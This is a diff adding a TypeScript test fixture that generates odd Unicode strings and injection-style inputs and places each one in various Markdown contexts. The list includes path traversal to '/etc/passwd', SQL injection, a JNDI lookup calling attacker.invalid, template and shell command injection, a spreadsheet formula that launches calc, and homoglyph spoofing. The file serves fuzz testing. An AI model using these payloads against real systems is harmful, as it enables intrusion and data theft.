@@ -1,0 +1,80 @@
+/** Signs that change what stands beside them, that are none, or that look like others. */
+const SIGNS: readonly (readonly [string, string])[] = [
+  ['turned around', '\u202Egpj.exe\u202C'],
+  ['turned around and left so', 'a\u202E b \u2066 c'],
+  ['isolated without end', '\u2066\u2067\u2068'.repeat(200)],
+  ['marks above marks', `Z${'\u0335\u0321\u0353\u0489'.repeat(500)}algo`],
+  ['joined', '👩\u200D❤\uFE0F\u200D💋\u200D👨'.repeat(50)],
+  ['joined without end', `👩${'\u200D👩'.repeat(2_000)}`],
+  ['flags cut in two', '🇩🇪🇫'.repeat(100)],
+  ['tones without faces', '🏽'.repeat(200)],
+  ['halves', '\uD83D x \uDE00 \uD83D\uD83D'],
+  ['no characters', '\uFFFE\uFFFF\uFDD0\u{1FFFE}\u{10FFFF}'],
+  ['controls', '\u0000\u0001\u0007\u0008\u000B\u000C\u001B[31m\u007F\u0085\u009B'],
+  ['of no width', '\u200B\u200C\u200D\u2060\uFEFF\u00AD\u180E'.repeat(100)],
+  ['line ends of other systems', 'a\rb\r\nc\u2028d\u2029e\u0085f\u000Bg'],
+  ['private ones', '\uE010\uE011\uE012\uE013\uE016\uE017\u{F0000}'],
+  ['one ligature of eighteen letters', '\uFDFA'.repeat(200)],
+  ['letters that grow in capitals', 'ßŉǰΐΰև\uFB03İ'.repeat(50)],
+  ['letters that look like others', 'аdmin раypаl.com ｊａｖａｓｃｒｉｐｔ：'],
+  ['digits of other scripts', '٣٫١٤ ৪২ Ⅻ ½ ①'],
+  ['composed and not', 'é e\u0301 Å A\u030A \u212B'],
+  ['words without spaces', '한국어문장'.repeat(200) + 'ภาษาไทย'.repeat(200) + '日本語'.repeat(200)],
+  ['letters that join', 'السلامعليكم'.repeat(400)],
+  ['tags of languages', '\u{E0001}\u{E0065}\u{E006E}\u{E007F}'.repeat(50)],
+  ['choosers of forms', 'a\uFE0F\uFE0E\u{E0100}'.repeat(100)],
+  ['staves', '𝕳𝖔𝖘𝖙𝖎𝖑𝖊 𐐷 𠜎'.repeat(50)],
+];
+
+/** Words that have meant something to a program which only should have kept them. */
+const WORDS = [
+  'null',
+  'undefined',
+  'NaN',
+  'true',
+  '-0',
+  '1e1000',
+  '0x0',
+  '__proto__',
+  'constructor',
+  'toString',
+  'hasOwnProperty',
+  'then',
+  'length',
+  'CON',
+  'NUL.txt',
+  '../../etc/passwd',
+  '..\\..\\windows\\win.ini',
+  "'; DROP TABLE drafts; --",
+  "' OR 1=1 --",
+  '" OR ""="',
+  '%00',
+  '%s%n%d',
+  '{0}',
+  '$' + '{jndi:ldap://attacker.invalid/a}',
+  '{{7*7}}',
+  '<%= 7*7 %>',
+  '$(touch /tmp/x)',
+  '`touch /tmp/x`',
+  "=cmd|' /C calc'!A0",
+  '@SUM(1+1)',
+  '+1-800',
+  '*',
+  'a MATCH b* NEAR "c',
+  '"unclosed',
+  'col:val^2 AND NOT (',
+];
+
+const PLACES: readonly ((text: string) => string)[] = [
+  (text) => text,
+  (text) => `# ${text}`,
+  (text) => `**${text}** and \`${text}\``,
+  (text) => `[${text}](https://example.org/${text})`,
+  (text) => `$${text}$`,
+  (text) => `| ${text} | ${text} |\n| --- | --- |\n| ${text} | b |`,
+];
+
+/** Odd signs and words in every place where Markdown has text. */
+export function oddSigns(): string[] {
+  return [...SIGNS.map(([, text]) => text), ...WORDS].flatMap((text) => PLACES.map((place) => place(text)));
+}
